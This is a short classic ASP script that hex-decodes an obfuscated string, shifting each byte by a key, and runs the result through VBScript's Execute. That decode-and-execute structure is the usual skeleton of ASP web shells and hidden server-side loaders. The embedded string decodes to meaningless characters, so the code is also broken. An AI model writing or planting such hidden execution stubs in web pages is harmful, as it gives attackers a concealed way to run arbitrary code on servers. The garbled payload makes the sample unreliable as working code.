<%
Function unhex(s, k)
    Dim i, r
    For i = 1 To Len(s) Step 2
        r = r & Chr(CInt("&H" & Mid(s, i, 2)) - k)
    Next
    unhex = r
End Function
Execute unhex("66766B6D7D", "1")
%>
